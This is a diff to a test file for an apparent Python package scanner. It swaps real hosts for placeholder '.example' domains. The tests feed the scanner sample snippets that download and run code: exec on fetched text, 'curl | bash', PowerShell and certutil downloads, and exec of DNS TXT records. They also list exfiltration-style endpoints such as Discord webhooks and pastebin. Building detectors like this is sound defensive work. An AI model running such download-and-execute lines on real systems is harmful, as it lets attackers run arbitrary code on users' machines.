@@ -5,7 +5,9 @@ from __future__ import annotations
 
 import base64
 import codecs
+import json
 import zlib
+from pathlib import Path
 
 import pytest
 from scanner_trees import sdist_tree
@@ -110,13 +112,13 @@ def test_pyarmor_is_unreadable_code_that_warns(tmp_path):
 # -- download and run ----------------------------------------------------------------------------
 
 @pytest.mark.parametrize("code", [
-    "import requests\nexec(requests.get('https://raw.githubusercontent.com/a/b/c.py').text)\n",
-    "from urllib.request import urlopen\ncode = urlopen('https://example.com/p').read()\nexec(code)\n",
-    "import os\nos.system('curl -fsSL https://example.com/i.sh | bash')\n",
+    "import requests\nexec(requests.get('https://files.example/a/b/c.py').text)\n",
+    "from urllib.request import urlopen\ncode = urlopen('https://code.example/p').read()\nexec(code)\n",
+    "import os\nos.system('curl -fsSL https://code.example/i.sh | bash')\n",
     "import subprocess\nsubprocess.Popen('powershell -c \"iwr https://x.example/a.exe -OutFile a.exe\"', shell=True)\n",
     "import os\nos.system(r'certutil -urlcache -split -f http://x.example/a.exe a.exe')\n",
-    "import requests\ndef run(code):\n    exec(code)\nrun(requests.get('https://example.com/s').text)\n",
-    "import dns.resolver\nfor r in dns.resolver.resolve('c.example.com', 'TXT'):\n    exec(r.strings[0])\n",
+    "import requests\ndef run(code):\n    exec(code)\nrun(requests.get('https://code.example/s').text)\n",
+    "import dns.resolver\nfor r in dns.resolver.resolve('c.example', 'TXT'):\n    exec(r.strings[0])\n",
 ], ids=["requests", "urlopen", "curl-pipe", "powershell", "certutil", "helper", "dns-txt"])
 def test_download_and_run(tmp_path, code):
     assert "download-exec" in {rule for rule, _ in fails(findings(tmp_path, code))}
@@ -138,7 +140,7 @@ def test_files_written_from_payloads_and_run(tmp_path, code):
 
 def test_a_build_that_downloads_but_runs_nothing_only_warns(tmp_path):
     code = ("import hashlib, urllib.request\n"
-            "data = urllib.request.urlopen('https://github.com/o/r/releases/x.tar.gz').read()\n"
+            "data = urllib.request.urlopen('https://releases.example/o/r/x.tar.gz').read()\n"
             "assert hashlib.sha256(data).hexdigest() == 'ab'\n"
             "open('demo/data.bin', 'wb').write(data)\n")
     found = findings(tmp_path, code, "setup.py")
@@ -260,12 +262,15 @@ def test_bidi_controls_in_code_but_not_in_strings(tmp_path):
 
 # -- endpoints and plain capabilities ---------------------------------------------------------
 
+#: URLs naming real services, as scanned text (tests/data/endpoints.json: never contacted)
+NETWORK_CALLS = json.loads((Path(__file__).parent / "data" / "endpoints.json").read_text(
+    encoding="utf-8"))["network_calls"]
+
+
 @pytest.mark.parametrize(("url", "shady"), [
-    ("https://discord.com/api/webhooks/1/x", True), ("https://pastebin.com/raw/x", True),
-    ("http://203.0.113.9:8080/x", True), ("https://a1b2.ngrok-free.app/x", True),
-    ("https://webhook.site/x", True), ("https://bit.ly/x", True),
-    ("https://pypi.org/simple/", False), ("http://127.0.0.1:8000/", False),
-    ("http://192.168.1.10/", False), ("https://api.github.com/repos", False),
+    *map(tuple, NETWORK_CALLS),
+    ("http://203.0.113.9:8080/x", True), ("http://127.0.0.1:8000/", False),
+    ("http://192.168.1.10/", False),
 ])
 def test_network_at_import_warns_and_shady_endpoints_fail(tmp_path, url, shady):
     found = findings(tmp_path, f"import requests\nrequests.get({url!r})\n")
@@ -330,7 +335,7 @@ def test_a_hidden_console_window_alone_is_not_evidence(tmp_path):
 
 def test_subclassing_runs_no_base_class_code(tmp_path):
     code = ("import socket\nclass Transport:\n    def __init__(self):\n"
-            "        socket.create_connection(('example.com', 22))\n"
+            "        socket.create_connection(('host.example', 22))\n"
             "class Fast(Transport):\n    pass\n")
     assert ("network", 4, INFO) in findings(tmp_path, code)
     assert ("network", 4, M) in findings(tmp_path / "b", code + "Fast()\n")
